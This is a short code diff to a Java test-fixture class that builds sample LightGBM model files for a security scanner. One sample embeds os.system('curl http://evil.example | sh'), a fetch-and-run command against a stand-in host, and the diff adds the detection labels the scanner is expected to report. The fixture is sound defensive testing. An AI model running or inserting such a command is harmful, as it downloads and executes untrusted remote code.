@@ -32,7 +32,9 @@ public final class LightgbmSamples {
                 FormatCase.of(
                         "command.txt",
                         model("300", "0 2", "1 -1", "0.1 0.2 0.3", "os.system('curl http://evil.example | sh')"),
-                        "model/embedded-command"),
+                        "model/embedded-command",
+                        "code/python-shell-download",
+                        "code/python-process"),
                 FormatCase.of("number.txt", model("300", "0 2", "1 -1", "1".repeat(100), ""), "gap:malformed"));
     }
 
